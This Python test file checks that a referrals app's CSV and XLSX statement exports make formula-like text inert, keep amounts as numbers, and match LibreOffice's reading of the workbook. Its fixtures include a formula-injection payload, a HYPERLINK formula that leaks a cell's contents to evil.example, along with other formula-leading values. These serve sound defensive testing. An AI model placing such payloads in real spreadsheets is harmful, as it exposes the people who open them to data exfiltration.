"""Statement files: text a spreadsheet would run as a formula is made inert; amounts stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from referrals.reports import render

COLUMNS = ["source_type", "source_id", "source_name", "currency", "amount", "amount_minor", "deals"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def _rows() -> list[dict[str, object]]:
    rows: list[dict[str, object]] = [
        {
            "source_type": "client",
            "source_id": f"cl_{i}",
            "source_name": name,
            "currency": "EUR",
            "amount": "-12.50",
            "amount_minor": -1250,
            "deals": 1,
        }
        for i, name in enumerate(HOSTILE)
    ]
    rows.append(
        {
            "source_type": "client",
            "source_id": "cl_ok",
            "source_name": "Ana Lima",
            "currency": "EUR",
            "amount": "100.00",
            "amount_minor": 10000,
            "deals": 2,
        }
    )
    return rows


def test_csv_text_cells_that_start_a_formula_get_an_apostrophe_and_amounts_do_not() -> None:
    out = list(csv.DictReader(io.StringIO(render(COLUMNS, _rows(), "csv").decode(), newline="")))
    # a carriage return, which CSV readers take for the end of a row, is written as a quoted line break
    assert [r["source_name"] for r in out] == ["'" + h.replace("\r", "\n") for h in HOSTILE] + ["Ana Lima"]
    assert {r["amount"] for r in out} == {"-12.50", "100.00"} and out[0]["amount_minor"] == "-1250"


def test_csv_writes_an_empty_cell_where_a_row_lacks_a_column_and_reads_one_column_alone() -> None:
    rows = _rows()
    del rows[-1]["deals"], rows[0]["source_name"]
    out = list(csv.DictReader(io.StringIO(render(COLUMNS, rows, "csv").decode(), newline="")))
    assert out[-1]["deals"] == "" and out[-1]["source_name"] == "Ana Lima"
    assert out[0]["source_name"] == "" and out[1]["source_name"] == "'=1+2"
    assert render(["source_name"], rows[1:3], "csv").decode() == "source_name\n'=1+2\n'+1\n"


def test_xlsx_never_holds_a_formula_and_keeps_names_exact() -> None:
    data = render(COLUMNS, _rows(), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    names = [ws.cell(row=r, column=3) for r in range(2, len(HOSTILE) + 3)]
    # XML reads a carriage return back as a line feed; every other character comes back as written
    assert [c.value for c in names] == [h.replace("\r", "\n") for h in HOSTILE] + ["Ana Lima"]
    assert {c.data_type for c in names} == {"s"}
    amount = ws.cell(row=2, column=5)
    assert amount.data_type == "n" and float(amount.value) == -12.5


def test_the_statement_workbook_has_a_sheet_per_currency_that_adds_up() -> None:
    import io as _io
    from datetime import date as _date

    from openpyxl import load_workbook

    from referrals.attribution import Arrival, DealFacts, Model, Params, PeriodFacts, Step
    from referrals.model import SourceKind, SourceRef
    from referrals.workbook import statement_workbook

    ana = Step(SourceRef(SourceKind.CLIENT, "cl_ana"), '=Ana "A&B" <x>', _date(2024, 1, 1), True)
    facts = PeriodFacts(
        _date(2024, 6, 1),
        _date(2024, 6, 30),
        (
            (DealFacts("dl_1", "cl_bo", 1_000_01, "EUR", _date(2024, 6, 3)), (ana,)),
            (DealFacts("dl_2", "cl_bo", 300, "JPY", _date(2024, 6, 4)), (ana,)),
            (DealFacts("dl_3", "cl_cy", 50_00, "EUR", _date(2024, 6, 5)), ()),
        ),
        (Arrival("cl_bo", _date(2024, 6, 2), (ana,)),),
    )
    data = statement_workbook(facts, Model.LINEAR, Params(), "2024-06", payers={"cl_bo": "Бо"})
    book = load_workbook(_io.BytesIO(data))
    assert book.sheetnames == ["EUR", "JPY", "New clients", "Deals", "Parameters"]
    eur = list(book["EUR"].iter_rows(2, values_only=True))
    assert eur[-1][0] == "Total" and eur[-1][2] == 1050.01 and {r[0] for r in eur[:-1]} == {ana.name, "(direct)"}
    assert book["EUR"].cell(2, 1).data_type == "s"  # a name like a formula stays a name
    jpy = book["JPY"]
    assert jpy.cell(2, 3).value == 300 and jpy.cell(2, 3).number_format == '#,##0 "JPY"'
    deals = list(book["Deals"].iter_rows(2, values_only=True))
    assert {r[2] for r in deals} == {"Бо", "cl_cy"}  # a payer whose name is unknown shows its id
    assert sum(r[8] for r in deals if r[4] == "JPY") == 300


def test_libreoffice_reads_the_statement_workbook_with_the_same_numbers(tmp_path) -> None:
    """Converted by LibreOffice headless, every currency sheet's cells are numbers whose Total row equals the
    CSV export's sum, and the Deals sheet's credits add up to it."""
    import csv as _csv
    import shutil
    import subprocess
    from datetime import date as _date
    from decimal import Decimal

    from referrals.attribution import DealFacts, Model, Params, PeriodFacts, Step, statement
    from referrals.model import SourceKind, SourceRef
    from referrals.reports import render, statement_rows
    from referrals.workbook import statement_workbook

    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed: python -m tools.libreoffice ensure"
    ana = Step(SourceRef(SourceKind.CLIENT, "cl_ana"), "Анна «Лён»", _date(2024, 1, 1), True)
    blog = Step(SourceRef(SourceKind.CHANNEL, "ch_blog"), "Blog", _date(2023, 1, 1), True)
    deals = tuple(
        (DealFacts(f"dl_{i}", "cl_bo", amount, cur, _date(2024, 6, 1 + i)), (ana, blog))
        for i, (amount, cur) in enumerate([(1_000_01, "EUR"), (-33_33, "EUR"), (12_345, "JPY"), (99_99, "USD")])
    )
    facts = PeriodFacts(_date(2024, 6, 1), _date(2024, 6, 30), deals)
    book = tmp_path / "june.xlsx"
    book.write_bytes(statement_workbook(facts, Model.POSITION_BASED, Params(), "2024-06"))
    out = tmp_path / "csv"
    subprocess.run(
        [
            soffice,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(out),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    columns, rows = statement_rows(statement(facts, Model.POSITION_BASED, Params()))
    exported = list(_csv.DictReader(io.StringIO(render(columns, rows, "csv").decode())))
    sheets = {
        p.stem.removeprefix("june-"): list(_csv.reader(io.StringIO(p.read_text(encoding="utf-8"))))
        for p in out.glob("*.csv")
    }
    assert sorted(sheets) == ["Deals", "EUR", "JPY", "New clients", "Parameters", "USD"]
    deal_lines = sheets["Deals"][1:]
    for currency in ("EUR", "JPY", "USD"):
        sheet = sheets[currency]
        total = sheet[-1]
        assert total[0] == "Total"
        want = sum(Decimal(r["amount"]) for r in exported if r["currency"] == currency)
        assert Decimal(total[2]) == want  # a number LibreOffice reads, equal to the CSV's sum
        assert sum(Decimal(r[2]) for r in sheet[1:-1]) == want
        assert sum(Decimal(r[8]) for r in deal_lines if r[4] == currency) == want
    assert any(r[0] == "Анна «Лён»" for r in sheets["EUR"])


def test_rows_as_lists_of_cells_make_the_same_files_and_stay_as_they_were() -> None:
    """A statement's rows come as lists of cells in the columns' order (no dict a row): every format
    is byte for byte the file of the same rows as dicts, and the rows themselves are not changed."""
    dicts = _rows()
    lists = [[r[c] for c in COLUMNS] for r in dicts]
    before = [row.copy() for row in lists]
    for fmt in ("csv", "json", "xlsx"):
        assert render(COLUMNS, lists, fmt) == render(COLUMNS, dicts, fmt), fmt
    assert lists == before  # the formula-looking names were made inert in the file only
    assert render(COLUMNS, lists, "csv").decode().splitlines()[2].split(",")[2] == "'=1+2"
